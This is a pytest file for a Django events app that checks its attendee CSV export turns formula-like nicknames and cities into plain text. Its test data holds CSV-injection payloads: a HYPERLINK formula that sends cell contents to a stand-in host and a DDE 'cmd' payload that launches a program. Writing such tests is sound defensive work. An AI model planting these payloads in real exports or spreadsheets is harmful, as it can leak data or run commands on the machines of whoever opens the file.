"""The attendee CSV opens in a spreadsheet as text: nothing an owner typed runs as a formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from community.accounts.services import issue_token
from community.kernel.spreadsheets import neutral_cell
from events import services
from tests.circles.factories import make_circle
from tests.events.factories import make_event
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("//x.cn?"&A1,"点")',  # nicknames are at most 30 characters
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def export_rows(nicknames: list[str], city: str = "重庆") -> list[list[str]]:
    circle = make_circle()
    event = make_event(circle=circle, capacity=len(nicknames) + 1)
    for nickname in nicknames:
        services.sign_up(user=UserFactory(nickname=nickname, city=city), event_id=event.pk)
    token = issue_token(circle.created_by)
    response = Client().get(f"/events/{event.pk}/attendees.csv", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "dde"])
def test_a_nickname_that_starts_a_formula_is_exported_as_text(formula):
    rows = export_rows([formula], city=formula)
    assert rows[1][0] == "'" + formula  # nickname
    assert rows[1][2] == "'" + formula  # city


def test_ordinary_cells_are_exported_unchanged():
    rows = export_rows(["王芳", "a=b", "Lee-Ann"])
    assert sorted(row[0] for row in rows[1:]) == sorted(["王芳", "a=b", "Lee-Ann"])
    assert {row[3] for row in rows[1:]} == {"0"}  # numbers stay numbers


def test_every_cell_is_quoted_and_embedded_quotes_doubled():
    circle = make_circle()
    event = make_event(circle=circle)
    services.sign_up(user=UserFactory(nickname='老"王"'), event_id=event.pk)
    token = issue_token(circle.created_by)
    body = (
        Client()
        .get(f"/events/{event.pk}/attendees.csv", HTTP_AUTHORIZATION=f"Bearer {token}")
        .content.decode("utf-8-sig")
    )
    assert '"老""王"""' in body
    assert all(line.startswith('"') for line in body.splitlines())


def test_only_text_is_prefixed():
    assert neutral_cell(-3) == -3
    assert neutral_cell(None) is None
    assert neutral_cell("") == ""
